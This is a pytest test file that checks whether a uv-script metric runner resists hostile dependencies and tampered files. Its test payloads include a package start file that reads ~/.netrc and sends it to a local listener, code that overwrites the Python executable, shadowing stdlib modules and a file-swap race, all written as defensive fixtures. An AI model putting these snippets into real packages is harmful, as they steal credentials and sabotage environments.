"""Packages, sockets and swapped files that a script's author brings with it."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path
from typing import Any

import pytest
from conftest import Run
from listener import listening
from metric_scripts import (
    BLOCK,
    HEAD,
    linux,
    metric,
    registry_of,
    wheel_with_a_start_file,
)
from uv import find_uv_bin

pytestmark = [linux, pytest.mark.one_python, pytest.mark.usefixtures("own_caches")]


def script_with_package(folder: Path, start: str, body: str) -> None:
    """A script and a package beside it, whose start file runs with any interpreter that sees it."""
    wheel_with_a_start_file(folder, "import eager", body=start)
    table = "[tool.uv]\n# compile-bytecode = true\n# [tool.uv.sources]\n"
    table += "# eager = {path = 'eager-1-py3-none-any.whl'}"
    block = f"# /// script\n# dependencies = ['eager']\n# {table}\n# ///\n"
    (folder / "m.py").write_text(f"{block}{HEAD}{body}")
    (folder / "r.jsonl").write_text('{"reward": 1.0}\n')


def computed(cli: Run, *arguments: str, **options: Any) -> dict[str, Any]:
    done = cli("compute", "r.jsonl", *arguments, "--format", "json", **options)
    (group,) = json.loads(done.stdout)["groups"]
    outcome: dict[str, Any] = group["metrics"][-1]
    return outcome


def test_start_code_of_a_package_sends_no_credentials(
    cli: Run, tmp_path: Path, tmp_path_factory: pytest.TempPathFactory
) -> None:
    home = tmp_path_factory.mktemp("home")
    (home / ".netrc").write_text("machine localhost login me password NETRC\n")
    with listening() as (port, heard):
        steal = (
            "import os, socket\ntry:\n"
            f"    to = socket.create_connection(('127.0.0.1', {port}), 2)\n"
            f"    to.sendall(b'HERE ' + open({str(home / '.netrc')!r}, 'rb').read())\n"
            "except OSError: pass\n"
        )
        script_with_package(tmp_path, steal, "import eager\nanswer(x=1)")
        # Twice: the second time the environment is there.
        for _ in range(2):
            one = computed(cli, "--metric", metric("m.py"), env={"HOME": str(home)})
            assert one["values"] == {"x": 1}, one.get("error")
    assert heard == []


def test_start_code_of_a_package_replaces_no_python(cli: Run, tmp_path: Path) -> None:
    replace = (
        "import os, sys\ntry:\n    os.unlink(sys.executable)\n"
        "    open(sys.executable, 'w').write('#!/bin/sh\\necho garbage\\n')\n"
        "except OSError: pass\n"
    )
    script_with_package(tmp_path, replace, "import eager\nanswer(x=1)")
    for _ in range(2):
        one = computed(cli, "--metric", metric("m.py"))
        assert one["values"] == {"x": 1}, one.get("error")


def test_start_code_that_hangs_ends_with_the_script(cli: Run, tmp_path: Path) -> None:
    script_with_package(tmp_path, "import time; time.sleep(600)", "answer(x=1)")
    started = time.monotonic()
    one = computed(cli, "--metric", metric("m.py"), "--script-timeout", "1")
    assert "timed out" in one["error"]["message"]
    assert time.monotonic() - started < 60


def test_file_that_is_swapped_changes_no_number_under_a_pin(cli: Run, tmp_path: Path) -> None:
    good, bad = f"{BLOCK}{HEAD}answer(x=1)", f"{BLOCK}{HEAD}answer(x=2)"
    (tmp_path / "m.py").write_text(good)
    (tmp_path / "r.jsonl").write_text('{"reward": 1.0}\n')
    digest = hashlib.sha256(good.encode()).hexdigest()
    entry = {"type": "uv-script", "kwargs": {"script_path": "m.py"}, "sha256": digest}
    done = threading.Event()

    def swap() -> None:
        while not done.is_set():
            for text in (bad, good):
                (tmp_path / "new").write_text(text)
                os.replace(tmp_path / "new", tmp_path / "m.py")
                time.sleep(0.01)

    thread = threading.Thread(target=swap)
    thread.start()
    try:
        outcomes = [computed(cli, "--metric", json.dumps(entry)) for _ in range(8)]
    finally:
        done.set()
        thread.join()
    for one in outcomes:
        assert one["values"] in ({"x": 1}, {})
        assert one["status"] == "ok" or one["error"]["rule"] == "script-pin"


@pytest.mark.skipif(os.getuid() != 0, reason="only root makes sockets in /run")
def test_the_network_opens_no_socket_of_a_service(cli: Run, tmp_path: Path) -> None:
    folder = Path("/run") / f"hostile-{os.getpid()}"
    folder.mkdir()
    try:
        with socket.socket(socket.AF_UNIX) as server:
            server.bind(str(folder / "socket"))
            server.listen()
            (tmp_path / "m.py").write_text(
                f"{HEAD}import socket\ntry:\n    reached = socket.socket(socket.AF_UNIX)"
                f".connect_ex({str(folder / 'socket')!r}) == 0\n"
                "except OSError: reached = False\nanswer(x=int(reached))"
            )
            (tmp_path / "r.jsonl").write_text('{"reward": 1.0}\n')
            one = computed(cli, "--metric", metric("m.py"), "--allow-network")
            assert one["values"] == {"x": 0}
    finally:
        shutil.rmtree(folder)


def test_a_pin_is_of_the_modules_beside_the_script_too(cli: Run, tmp_path: Path) -> None:
    (tmp_path / "helper.py").write_text(
        "import os\ndef score():\n    here = os.path.dirname(__file__)\n"
        "    return int(open(f'{here}/v.txt').read())\n"
    )
    (tmp_path / "v.txt").write_text("5")
    (tmp_path / "m.py").write_text(f"{HEAD}import helper\nanswer(x=helper.score())")
    (tmp_path / "r.jsonl").write_text('{"reward": 1.0}\n')
    registry = registry_of(tmp_path)
    added = cli("add", registry, "d", "uv-script", "-k", "script_path=m.py", "--pin")
    assert added.returncode == 0, added.stderr
    for body, values in (("", {"x": 5}), ("def score(): return 6\n", {})):
        with (tmp_path / "helper.py").open("a") as file:
            file.write(body)
        one = computed(cli, "--registry", str(registry))
        assert one["values"] == values, one.get("error")
    assert one["error"]["rule"] == "script-pin"
    assert "with the 1 module beside it" in one["error"]["message"]
    assert cli("validate", registry).returncode == 1
    assert cli("validate", registry, "--fix").returncode == 0
    one = computed(cli, "--registry", str(registry))
    assert one["values"] == {"x": 6}
    assert one["script"]["modules_sha256"] in registry.read_text()


@pytest.fixture
def pinned(cli: Run, tmp_path: Path) -> Path:
    """A registry that pins a script with a package beside it, whose number is 1."""
    (tmp_path / "r.jsonl").write_text('{"reward": 1.0}\n')
    wheel_with_a_start_file(tmp_path, "", body="X = 1\n")
    sources = "# [tool.uv.sources]\n# eager = {path = 'eager-1-py3-none-any.whl'}\n"
    block = f"# /// script\n# dependencies = ['eager']\n{sources}# ///\n"
    (tmp_path / "m.py").write_text(f"{block}{HEAD}import eager\nanswer(x=eager.X)")
    registry = registry_of(tmp_path)
    added = cli("add", registry, "d", "uv-script", "-k", "script_path=m.py", "--pin")
    assert added.returncode == 0, added.stderr
    return registry


def test_a_pin_is_of_the_packages_beside_the_script_too(
    cli: Run, tmp_path: Path, pinned: Path
) -> None:
    one = computed(cli, "--registry", str(pinned))
    assert one["values"] == {"x": 1}, one
    wheel_with_a_start_file(tmp_path, "", body="X = 2\n")
    other = computed(cli, "--registry", str(pinned))
    assert other["values"] == {}
    assert other["error"]["rule"] == "script-pin"
    assert "with the 1 package beside it" in other["error"]["message"]
    assert cli("validate", pinned).returncode == 1
    assert cli("validate", pinned, "--fix").returncode == 0
    other = computed(cli, "--registry", str(pinned))
    assert other["values"] == {"x": 2}
    assert other["script"]["packages_sha256"] != one["script"]["packages_sha256"]
    assert other["script"]["sha256"] == one["script"]["sha256"]


def test_a_pin_is_of_the_lock_beside_the_script_too(cli: Run, tmp_path: Path, pinned: Path) -> None:
    lock = [find_uv_bin(), "lock", "-q", "--python", sys.executable, "--script", "m.py"]
    subprocess.run(lock, cwd=tmp_path, check=True)
    one = computed(cli, "--registry", str(pinned))
    assert one["error"]["rule"] == "script-pin"
    assert "with the 1 package and the lock beside it" in one["error"]["message"]
    assert cli("validate", pinned, "--fix").returncode == 0
    assert computed(cli, "--registry", str(pinned))["values"] == {"x": 1}
    with (tmp_path / "m.py.lock").open("a") as file:
        file.write("# changed\n")
    assert computed(cli, "--registry", str(pinned))["error"]["rule"] == "script-pin"


def test_a_module_that_the_pin_does_not_know_cannot_be_imported(cli: Run, tmp_path: Path) -> None:
    # What the script imports imports another, which somebody has put in its way.
    (tmp_path / "m.py").write_text(f"{HEAD}import random\nanswer(x=random.Random(1).randrange(9))")
    (tmp_path / "r.jsonl").write_text('{"reward": 1.0}\n')
    registry = registry_of(tmp_path)
    assert cli("add", registry, "d", "uv-script", "-k", "script_path=m.py", "--pin").returncode == 0
    before = computed(cli, "--registry", str(registry))
    (tmp_path / "hashlib.py").write_text("raise SystemExit(5)")
    (tmp_path / "bisect.py").write_text("raise SystemExit(5)")
    # It must not be our own interpreter that finds them in the current directory.
    after = computed(cli, "--registry", str(registry), env={"PYTHONSAFEPATH": "1"})
    assert after["values"] == before["values"] == {"x": 2}


def test_no_package_of_a_failed_installation_is_asked(cli: Run, tmp_path: Path) -> None:
    """uv would start the Python that packages lie in, where the script forbids it its memory."""
    with listening() as (port, heard):
        _fail_to_install(tmp_path, port)
        one = computed(cli, "--metric", metric("m.py"))
    assert one["status"] == "failed"
    assert not any("HERE" in each for each in map(str, heard))


def _fail_to_install(tmp_path: Path, port: int) -> None:
    call = f"import socket\nsocket.create_connection(('127.0.0.1', {port}), 2).sendall(b'HERE')\n"
    # Refused only when the other files of the package lie there.
    points = {"eager-1.dist-info/entry_points.txt": "[console_scripts]\npython=eager:x\n"}
    wheel_with_a_start_file(tmp_path, call, more=points)
    block = "# /// script\n# dependencies = ['eager']\n# [tool.uv]\n# no-cache = true\n"
    block += "# [tool.uv.sources]\n# eager = {path = 'eager-1-py3-none-any.whl'}\n# ///\n"
    (tmp_path / "m.py").write_text(f"{block}{HEAD}answer(n=1)")
    (tmp_path / "r.jsonl").write_text('{"reward": 1.0}\n')
    lock = [find_uv_bin(), "lock", "--quiet", "--offline", "--script", "m.py"]
    subprocess.run(lock, cwd=tmp_path, check=True)
